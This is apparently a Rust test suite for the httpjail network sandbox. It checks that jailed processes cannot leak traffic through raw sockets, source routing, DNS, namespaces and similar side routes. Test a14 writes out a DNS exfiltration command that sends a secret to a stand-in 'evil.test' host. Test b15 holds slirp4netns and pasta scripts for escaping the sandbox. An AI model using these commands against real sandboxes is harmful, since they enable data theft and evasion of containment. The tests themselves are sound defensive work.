//! Packets that are no HTTP request, or that go elsewhere than the connect hooks were told.

use httpjail_tests::addresses::{CLIENT_DEVICE, CLIENT_V4};
use httpjail_tests::{BANNER, Lab, sys};

use crate::trial::{Who, assert_no_banner, assert_nothing_sent};

const V4: &str = "45.67.89.2:4433";
const V6: &str = "[2a0f:9400:7777::2]:4433";
/// Where the hooks turn datagrams to the stub instead of refusing them.
const DNS_V4: &str = "45.67.89.2:53";
const DNS_V6: &str = "[2a0f:9400:7777::2]:53";
const SSH_V4: &str = "45.67.89.2:22";
const SSH_V6: &str = "[2a0f:9400:7777::2]:22";

#[test]
fn a08_srv6_routing_header() {
    const ROUTING: u8 = 43;
    let lab = Lab::new();
    let act = ["routing-header", "[2a0f:9400:7777::a]:443", "--via", "2a0f:9400:7777::2"];
    Who::User.outside(&lab).probe(act).exits(0);
    assert!(lab.frames().iter().any(|frame| frame.protocol == ROUTING), "no twin");
    for who in Who::BOTH {
        lab.assert_silent(|| {
            let jailed = who.jail(&lab).probe(act).exits(0).report();
            assert!(jailed["ok"].is_boolean(), "it was tried: {jailed}");
        });
    }
    lab.assert_clean();
}

/// To a port for DNS as well: there the hooks change the address, and not the route.
#[test]
fn a09_ip_source_route() {
    let lab = Lab::new();
    let via = ["--via", "45.67.89.2"];
    let acts = ["source-route", "source-route-control"].map(|act| {
        ["45.67.89.10:4433", "45.67.89.10:53"].map(|target| [&[act, target][..], &via].concat())
    });
    let acts: Vec<_> = acts.as_flattened().iter().map(Vec::as_slice).collect();
    // The kernel asks for CAP_NET_RAW since 6.18.
    assert_nothing_sent(&lab, Who::Root, &acts);
    lab.assert_clean();
}

#[test]
fn a10_chosen_devices_and_scopes() {
    let lab = Lab::new();
    let device = lab.at_client(|| sys::interface_index(CLIENT_DEVICE)).expect("the lab's device");
    let link_local = format!("[fe80::ff:fe00:2%{device}]:4433");
    let source = CLIENT_V4.to_string();
    let mut acts = Vec::new();
    for target in [V4, V6, DNS_V4, DNS_V6] {
        acts.push(vec!["udp-send-to", target, "--bind-device", CLIENT_DEVICE]);
        acts.push(vec!["udp-send-to", target, "--unicast-device", CLIENT_DEVICE]);
        acts.push(vec!["udp-packet-info", target, "--device", CLIENT_DEVICE]);
    }
    acts.push(vec!["udp-send-to", &link_local]);
    acts.push(vec!["udp-connect", &link_local]);
    acts.push(vec!["udp-multicast", "224.0.0.99:5353", "--source-address", &source]);
    acts.push(vec!["udp-multicast", "[ff02::1234]:5353", "--device", CLIENT_DEVICE]);
    let acts: Vec<_> = acts.iter().map(Vec::as_slice).collect();
    assert_nothing_sent(&lab, Who::User, &acts);
    lab.assert_clean();
}

#[test]
fn a10_chosen_devices_for_streams() {
    let lab = Lab::new();
    let acts = [
        ["tcp", SSH_V4, "--bind-device", CLIENT_DEVICE],
        ["tcp", SSH_V6, "--bind-device", CLIENT_DEVICE],
        ["tcp", SSH_V4, "--unicast-device", CLIENT_DEVICE],
        ["tcp", SSH_V6, "--unicast-device", CLIENT_DEVICE],
    ];
    assert_no_banner(&lab, &acts.each_ref().map(|act| &act[..]));
    lab.assert_clean();
}

#[test]
fn a11_udp_lite() {
    let lab = Lab::new();
    assert_nothing_sent(&lab, Who::User, &[&["udplite", V4], &["udplite", V6]]);
    lab.assert_clean();
}

#[test]
fn a12_ping_sockets() {
    let lab = Lab::new();
    assert_nothing_sent(
        &lab,
        Who::User,
        &[&["ping", "45.67.89.2:0"], &["ping", "[2a0f:9400:7777::2]:0"]],
    );
    lab.assert_clean();
}

#[test]
fn a13_datagrams() {
    let lab = Lab::new();
    assert_nothing_sent(
        &lab,
        Who::User,
        &[
            &["udp-connect", V4],
            &["udp-connect", V6],
            &["udp-send-to", V4],
            &["udp-send-to", V6],
            &["udp-send-to", "45.67.89.2:443"],
            &["udp-send-to", "[2a0f:9400:7777::2]:443"],
            &["udp-connect", V4, "--mapped", "yes"],
            &["udp-send-to", V4, "--mapped", "yes"],
            &["udp-unspecified-family", V4],
            &["udp-connected-send-to", V4],
        ],
    );
    lab.assert_clean();
}

/// Whatever server is named: nothing of the question reaches the wire.
#[test]
fn a14_names_as_a_channel() {
    let lab = Lab::new();
    assert_nothing_sent(
        &lab,
        Who::User,
        &[&["udp-send-to", DNS_V4], &["udp-send-to", DNS_V6], &["udp-connect", DNS_V4]],
    );
    let dig = |server: &str, how: &str| {
        format!("dig +tries=1 +time=3 {how} {server} secret-5f3a.evil.test > answer; rm answer")
    };
    Who::User.outside(&lab).sh(&dig("@45.67.89.53", "+notcp")).exits(0);
    assert!(lab.saw("secret-5f3a"), "without a jail the question is sent");
    let asked = lab.names_asked().len();
    for who in Who::BOTH {
        for server in ["", "@45.67.89.53", "@45.67.89.2", "@8.8.8.8", "@127.0.0.53", "@127.0.0.11"]
        {
            for how in ["+notcp", "+tcp"] {
                lab.assert_silent(|| {
                    who.jail(&lab).sh(&dig(server, how)).exits(0);
                });
            }
        }
    }
    assert_eq!(lab.names_asked().len(), asked, "the name server was asked");
    lab.assert_clean();
}

#[test]
fn a26_io_uring() {
    let lab = Lab::new();
    assert_nothing_sent(&lab, Who::User, &[&["io-uring", V4], &["io-uring", V6]]);
    lab.assert_clean();
}

#[test]
fn b07_packet_sockets() {
    let lab = Lab::new();
    assert_nothing_sent(&lab, Who::Root, &[&["packet", CLIENT_DEVICE]]);
    lab.assert_clean();
}

#[test]
fn b08_raw_sockets() {
    let lab = Lab::new();
    assert_nothing_sent(
        &lab,
        Who::Root,
        &[&["raw", "45.67.89.2:0"], &["raw", "[2a0f:9400:7777::2]:0"]],
    );
    lab.assert_clean();
}

/// An address that isn't this machine's asks for no privilege. By IPv4 the kernel finds no route
/// from one.
#[test]
fn b17_foreign_source_address() {
    let lab = Lab::new();
    let source = "[2a0f:9400:7777::77]:5353";
    assert_nothing_sent(
        &lab,
        Who::User,
        &[
            &["udp-send-to", V6, "--free-source", source],
            &["udp-send-to", DNS_V6, "--free-source", source],
        ],
    );
    lab.assert_clean();
}

#[test]
fn b18_multipath_tcp() {
    let lab = Lab::new();
    assert_no_banner(&lab, &[&["mptcp", SSH_V4], &["mptcp", SSH_V6]]);
    lab.assert_clean();
}

#[test]
fn b19_data_in_the_syn() {
    let lab = Lab::new();
    assert_no_banner(&lab, &[&["fast-open", SSH_V4], &["fast-open", SSH_V6]]);
    lab.assert_clean();
}

#[test]
fn b20_reconnect() {
    let lab = Lab::new();
    let origin = lab.origin("a.test");
    let first = [format!("{}:80", origin.v4()), format!("[{}]:80", origin.v6())];
    assert_nothing_sent(
        &lab,
        Who::User,
        &[&["udp-reconnect", V4, "--first", DNS_V4], &["udp-reconnect", V6, "--first", DNS_V6]],
    );
    assert_no_banner(
        &lab,
        &[
            &["tcp-reconnect", SSH_V4, "--first", &first[0]],
            &["tcp-reconnect", SSH_V6, "--first", &first[1]],
        ],
    );
    lab.assert_clean();
}

/// A user and network namespace of one's own, with a program that carries its packets: outside, that
/// one's sockets speak to the server.
#[test]
fn b15_programs_that_carry_packets() {
    const ASK: &str = "nc -w 3 45.67.89.2 22 < /dev/null";
    let slirp = format!(
        "mkfifo ready go; unshare --user --map-root-user --net sh -c 'echo $$ > ready; read go < go; {ASK}' &
         read pid < ready; slirp4netns --configure --ready-fd=3 $pid tap0 3> up > /dev/null & carrier=$!
         until test -s up || ! kill -0 $carrier; do :; done; echo > go
         wait %1; kill $carrier; rm -f ready go up"
    );
    let pasta = format!(
        "test $(id -u) != 0 || runas='--runas 0:0'
         timeout 2 pasta $runas --config-net --interface {CLIENT_DEVICE} --address 10.0.2.15 --netmask 24 \
            --gateway 10.0.2.2 --no-map-gw -t none -u none -T none -U none -- sh -c '{ASK}'"
    );
    let lab = Lab::new();
    lab.banner_server();
    for script in [slirp, pasta] {
        let twin = lab.outside().sh(&script);
        assert!(twin.stdout.contains(BANNER), "without a jail: {twin:?}");
        for who in Who::BOTH {
            lab.assert_silent(|| {
                let jailed = who.jail(&lab).sh(&script);
                assert!(!jailed.stdout.contains(BANNER), "{who:?}: {jailed:?}");
            });
        }
    }
    lab.assert_clean();
}
